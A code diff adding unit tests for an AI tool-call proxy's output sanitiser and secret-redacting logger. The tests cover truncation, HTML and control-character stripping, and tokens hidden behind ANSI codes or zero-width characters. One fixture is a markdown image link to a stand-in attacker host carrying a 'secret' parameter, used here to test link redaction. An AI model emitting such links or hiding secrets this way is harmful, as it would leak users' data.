@@ -113,11 +113,54 @@ describe('what a caller asks of an answer', () => {
   });
 
   it('is held to another budget, and cleaned all the same', async () => {
-    const scene = createScene({ execute: () => answer(`\u001b[2J${TOKEN} ${'x'.repeat(500)}`) });
-    const [text = ''] = textsOf(await scene.proxy.execute(request(), { output: { maxSizeBytes: 60, stripControlChars: false } }));
-    expect(text).toMatch(/^\u241b\[2J/);
+    const settings = settingsFor(parseConfig({ tools: { read_file: { output: { stripControlChars: false } } } }), 'read_file');
+    const execute = () => answer(`\u001b[2J${TOKEN} ${'x'.repeat(500)}`);
+    const scene = createScene({ tools: [describeTool()], registry: { settingsFor: () => settings }, execute });
+    const [text = ''] = textsOf(await scene.proxy.execute(request(), { output: { maxSizeBytes: 60 } }));
+    expect(text).toMatch(/^\u241b\[2J\u2403/);
     expect(Buffer.byteLength(text)).toBeLessThanOrEqual(60);
     expect(text).not.toContain(TOKEN.slice(4, 12));
+  });
+
+  it.each<[string, object, string, string]>([
+    ['links', { links: 'mark' }, '![x](https://evil.invalid/?q=secret)', '[REDACTED:link]'],
+    ['HTML', { html: 'text' }, '<!doctype html><html><body><script>x</script><p>hello</p></body></html>', 'hello'],
+    ['size', { maxSizeBytes: 20 }, 'x'.repeat(100), `${'x'.repeat(8)}\n[truncated]`],
+    ['controls', {}, 'a\u001b[2Jb\0', 'ab'],
+  ])('loses none of the steps that the operator wants: %s', async (_, output, text, expected) => {
+    const settings = settingsFor(parseConfig({ tools: { read_file: { output } } }), 'read_file');
+    const scene = createScene({ tools: [describeTool()], registry: { settingsFor: () => settings }, execute: () => answer(text) });
+    const wishes = { links: 'keep', html: 'keep', maxSizeBytes: 1e9, stripControlChars: false, stripNullBytes: false, validateJson: false, onBinary: 'replace' } as const;
+    expect(textsOf(await scene.proxy.execute(request(), { output: wishes }))).toEqual([expected]);
+  });
+
+  it('says nothing where it leaves something out', async () => {
+    const scene = createScene({ execute: () => answer('x') });
+    const wishes: object = { output: { maxSizeBytes: undefined, truncationMessage: undefined } };
+    expect(textsOf(await scene.proxy.execute(request(), wishes))).toEqual(['x']);
+  });
+
+  it('is what the files that it edits are shown with', async () => {
+    const views: string[] = [];
+    const execute = ({ run }: Execution) => (views.push(run.view(Buffer.from('a __ot b')).text), answer('x'));
+    const scene = createScene({ execute });
+    await scene.proxy.execute(request(), { boundaries: true });
+    await scene.proxy.execute(request());
+    expect(views).toEqual(['a [REDACTED:trigger] b', 'a __ot b']);
+  });
+});
+
+describe('an output configuration that no schema has seen', () => {
+  it.each<[string, object]>([
+    ['no number of bytes', { maxSizeBytes: Number.NaN }],
+    ['less than none', { maxSizeBytes: -1 }],
+    ['all there is', { maxSizeBytes: Infinity }],
+    ['a message that draws', { truncationMessage: '\u001b[2J' }],
+    ['a message without end', { truncationMessage: 'x'.repeat(1_001) }],
+  ])('%s: nothing goes out', async (_, output) => {
+    const scene = createScene({ execute: () => answer('the output') });
+    const result = await scene.proxy.execute(request(), { output });
+    expect([codeOf(result), JSON.stringify(result).includes('the output')]).toEqual(['OUTPUT_WITHHELD', false]);
   });
 });
 
@@ -140,6 +183,37 @@ describe('what is written down', () => {
     const result = await scene.proxy.execute(request(changes));
     expect(result.isError).toBe(true);
     expect(JSON.stringify([scene.records, scene.events, result])).not.toContain(TOKEN);
+  });
+
+  it.each<[string, string]>([
+    ['behind a colour', `\u001b[31m${TOKEN}\u001b[0m`],
+    ['behind what is left of a colour', `[0;31m${TOKEN}`],
+    ['cut by a zero width space', `${TOKEN.slice(0, 8)}\u200b${TOKEN.slice(8)}`],
+    ['cut by a soft hyphen and a NUL', `${TOKEN.slice(0, 8)}\u00ad\0${TOKEN.slice(8)}`],
+    ['cut by a tag character', `${TOKEN.slice(0, 8)}\u{e0041}${TOKEN.slice(8)}`],
+  ])('has none that is hidden: %s', async (_, path) => {
+    const scene = createScene();
+    await scene.proxy.execute(request({ args: { path: `a ${path} b` } }));
+    await scene.proxy.execute(request({ args: { nothing: `a ${path} b` } }));
+    expect(JSON.stringify([scene.intents, scene.records])).not.toContain(TOKEN.slice(10, 30));
+  });
+
+  it('keeps what holds no secret as it came, hidden characters and all', async () => {
+    const scene = createScene();
+    await scene.proxy.execute(request({ args: { path: 'a\u200b\u001b[31mb' } }));
+    expect(scene.records[0]?.input).toEqual({ path: 'a\u200b\u001b[31mb' });
+  });
+
+  it.each<[string, object]>([
+    ['a name', { toolName: `${'A'.repeat(160)} ${TOKEN}` }],
+    ['a long word for a name', { toolName: `${'A '.repeat(80)}${TOKEN}${'A'.repeat(300)}` }],
+    ['an excerpt', { args: { path: 'a', x: `${'y'.repeat(65_479)} ${TOKEN} ${'z'.repeat(40_000)}` } }],
+    ['the name of an argument', { args: { [`${'n '.repeat(20)}${TOKEN}`]: 1 } }],
+    ['a pointer', { args: JSON.parse(`{"${'p '.repeat(85)}${TOKEN}":{"__proto__":1}}`) as object }],
+  ])('shows no half of one where %s is cut', async (_, changes) => {
+    const scene = createScene();
+    const result = await scene.proxy.execute(request(changes));
+    expect(JSON.stringify([scene.records, scene.events, result])).not.toContain(TOKEN.slice(0, 10));
   });
 
   it('of what a tool threw neither, even where the detail is cut', async () => {
